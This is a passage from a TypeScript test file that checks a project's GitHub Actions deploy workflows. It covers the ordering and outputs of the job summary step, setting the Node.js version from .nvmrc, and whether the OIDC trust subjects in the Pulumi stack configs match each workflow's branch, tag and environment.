                // kills: a summary that only runs on success, reads another file than the driver writes, or runs before the driver
                assert.deepStrictEqual(job.environment, {
                    name: typeof job.environment === "object" ? job.environment.name : undefined,
                    url: "${{ steps.summary.outputs.url }}",
                });
                assert.strictEqual(summary.if, "always() && steps.install.outcome == 'success'");
                assert.strictEqual(job.steps[stepIndex(job, (s) => s.id === "install", "with id `install`")].run, "npm ci");
                assert.ok(summaryIndex > driverIndex, "the summary comes after the driver");
                assert.strictEqual(summary.env?.EXIT_CODE, `\${{ steps.${driverId}.outputs.exit-code }}`);
                const driver = job.steps[driverIndex].run!;
                assert.ok(driver.includes(`--evidence ${summary.env?.EVIDENCE} `), `the driver writes ${summary.env?.EVIDENCE}`);
                assert.ok(driver.includes(`> ${summary.env?.RESULT}`), `the driver's --json goes to ${summary.env?.RESULT}`);
                for (const [name, value] of Object.entries(summary.env ?? {})) {
                    assert.ok(name in inputs || ["EXIT_CODE", "EVIDENCE", "RESULT"].includes(name), `this test does not give the step's ${name} (${value})`);
                }
            });

            /** Runs the step's script from the repository root with the real ts-node; the driver's files are in a temporary directory. */
            function runSummary(exitCode: string, files: Record<string, string>) {
                const dir = fs.mkdtempSync(path.join(os.tmpdir(), "papyrus-summary-step-"));
                cleanupLater.push(dir);
                const evidence = path.join(dir, path.basename(summary.env!.EVIDENCE));
                const result = path.join(dir, path.basename(summary.env!.RESULT));
                for (const [name, text] of Object.entries(files)) {
                    fs.writeFileSync(path.join(dir, name), text);
                }
                const env = { GITHUB_STEP_SUMMARY: path.join(dir, "summary.md"), GITHUB_OUTPUT: path.join(dir, "output") };
                fs.writeFileSync(env.GITHUB_OUTPUT, "");
                const run = spawnSync("bash", ["--noprofile", "--norc", "-e", "-c", summary.run!], {
                    cwd: ROOT,
                    env: {
                        PATH: process.env.PATH ?? "",
                        HOME: process.env.HOME ?? "",
                        ...env,
                        ...inputs,
                        EXIT_CODE: exitCode,
                        EVIDENCE: evidence,
                        RESULT: result,
                    },
                    encoding: "utf8",
                });
                return {
                    status: run.status,
                    stderr: run.stderr,
                    evidence,
                    result,
                    summary: fs.existsSync(env.GITHUB_STEP_SUMMARY) ? fs.readFileSync(env.GITHUB_STEP_SUMMARY, "utf8") : "",
                    outputs: parseOutputs(fs.readFileSync(env.GITHUB_OUTPUT, "utf8")),
                };
            }

            it("after a success: the summary of the evidence, and the load balancer as the environment's URL", () => {
                const evidence = record(command, "prod");
                const run = runSummary("0", { [path.basename(summary.env!.EVIDENCE)]: JSON.stringify(evidence) });
                assert.strictEqual(run.status, 0, run.stderr);
                assert.strictEqual(
                    run.summary,
                    jobSummary({ ...summaryInput, evidencePath: run.evidence, evidence: { record: evidence }, exitCode: 0 }).markdown,
                );
                assert.match(run.summary, /^\| ECS rollout \| `COMPLETED` \(deployment `ecs-svc\/42`\): ECS finished the deployment \|$/m);
                assert.deepStrictEqual(run.outputs, { url: URL });
            });

            it("after a failure that left no evidence: what it knows, the CLI's error, the evidence called missing, no URL", () => {
                const run = runSummary("9", {
                    [path.basename(summary.env!.RESULT)]: JSON.stringify({ error: { code: 9, message: "AWS could not be reached" } }),
                });
                assert.strictEqual(run.status, 0, run.stderr);
                assert.strictEqual(
                    run.summary,
                    jobSummary({
                        ...summaryInput,
                        evidencePath: run.evidence,
                        exitCode: 9,
                        error: "AWS could not be reached",
                        evidence: { missing: `\`${run.evidence}\` was not written (the command stopped before it ran an update, or did not run)` },
                    }).markdown,
                );
                assert.match(run.summary, /^No evidence record: /m);
                assert.deepStrictEqual(run.outputs, {});
            });
        });
    }
});

describe("every job that starts node runs the Node.js .nvmrc names (22 LTS or newer, inside engines.node)", () => {
    const nvmrc = fs.readFileSync(path.join(ROOT, ".nvmrc"), "utf8").trim();
    const engines = (JSON.parse(fs.readFileSync(path.join(ROOT, "package.json"), "utf8")) as { engines: { node: string } }).engines.node;

    it(`.nvmrc (${nvmrc}) is an LTS line of 22 or later, and package.json's engines.node (${engines}) takes it`, () => {
        // kills: a workflow Node version below 22 (Node 20 is past its end of life) or outside the range the project states
        assert.match(nvmrc, /^\d+$/, ".nvmrc names a major version");
        assert.ok(Number(nvmrc) >= 22 && Number(nvmrc) % 2 === 0, `.nvmrc ${nvmrc} is not an LTS line of 22 or later`);
        assert.strictEqual(engines, ">=22");
    });

    for (const file of WORKFLOW_FILES) {
        const { workflow } = readWorkflow(file);
        for (const [name, job] of Object.entries(workflow.jobs)) {
            const nodeSteps = job.steps.flatMap((s, i) => (s.run !== undefined && /(^|\s)(npm|npx|pulumi) /m.test(s.run) ? [i] : []));
            if (nodeSteps.length === 0) continue;
            it(`${file}, job ${name}: setup-node with .nvmrc before its first npm, npx or pulumi step`, () => {
                const setupNode = stepIndex(job, usesAction("actions/setup-node"), "setting up node");
                assert.strictEqual(job.steps[setupNode].with?.["node-version-file"], ".nvmrc");
                assert.strictEqual(job.steps[setupNode].with?.["node-version"], undefined, "one source of the version");
                assert.ok(setupNode < nodeSteps[0], `step "${job.steps[nodeSteps[0]].name}" runs node before setup-node`);
            });
        }
    }
});

describe("workflows and stack config agree on who may assume the roles", () => {
    // The OIDC `sub` a job presents (the environment when the job names one, else the pushed ref), matched
    // the way IAM's StringLike matches it against the subjects the stack's config yields.
    function trusted(subjects: readonly string[], sub: string): boolean {
        const glob = (pattern: string) =>
            new RegExp(
                `^${pattern
                    .replace(/[.+^${}()|[\]\\]/g, "\\$&")
                    .replace(/\*/g, ".*")
                    .replace(/\?/g, ".")}$`,
            );
        return subjects.some((subject) => glob(subject).test(sub));
    }
    const stacks = readWorkflow("deploy.yml").workflow.on.workflow_dispatch.inputs.stack.options as string[];
    for (const stack of stacks) {
        const configFile = path.join(ROOT, `Pulumi.${stack}.yaml`);
        const subjects = () => {
            assert.ok(fs.existsSync(configFile), `Pulumi.${stack}.yaml is missing`);
            const config = (yaml.load(fs.readFileSync(configFile, "utf8")) as { config: Record<string, any> }).config;
            return resolveGithubSettings(config["papyrus:github"], "papyrus:github");
        };
        const repo = () => {
            const { owner, repository } = subjects().settings;
            return `repo:${owner}/${repository}`;
        };

        it(`${stack}: the push role trusts ecr-push runs on master and on a release tag`, () => {
            assert.ok(trusted(subjects().pushSubjects, `${repo()}:ref:refs/heads/master`), `Pulumi.${stack}.yaml papyrus:github.push must trust branch master`);
            assert.ok(
                trusted(subjects().pushSubjects, `${repo()}:ref:refs/tags/v1.2.3`),
                `Pulumi.${stack}.yaml papyrus:github.push must trust tags like v1.2.3`,
            );
        });

        it(`${stack}: the deploy role trusts the deploy job's environment \`${stack}\``, () => {
            assert.ok(
                trusted(subjects().deploySubjects, `${repo()}:environment:${stack}`),
                `deploy.yml and rollback.yml run in the GitHub environment \`${stack}\`, so their token's sub is ` +
                    `\`repo:OWNER/REPO:environment:${stack}\`; add \`environments: [${stack}]\` to papyrus:github.deploy in Pulumi.${stack}.yaml`,
            );
        });

        it(`${stack}: the deploy role trusts deploy.yml's approve job, in the environment \`${stack}-approval\``, () => {
            const approval = readWorkflow("deploy.yml").workflow.jobs.approve.environment;
            assert.strictEqual(approval, "${{ inputs.stack }}-approval");
            assert.ok(
                trusted(subjects().deploySubjects, `${repo()}:environment:${stack}-approval`),
                `deploy.yml's approve job runs in the GitHub environment \`${stack}-approval\`; add it to papyrus:github.deploy.environments in Pulumi.${stack}.yaml`,
            );
        });

        it(`${stack}: the deploy role trusts no branch push or tag, so the environment's rules always apply`, () => {
            for (const sub of [
                `${repo()}:ref:refs/heads/master`,
                `${repo()}:ref:refs/tags/v1.2.3`,
                `${repo()}:environment:${stack === "prod" ? "dev" : "prod"}`,
                `${repo()}:environment:${stack === "prod" ? "dev" : "prod"}-approval`,
            ]) {
                assert.ok(!trusted(subjects().deploySubjects, sub), `Pulumi.${stack}.yaml papyrus:github.deploy trusts ${sub}`);
            }
        });
    }
});
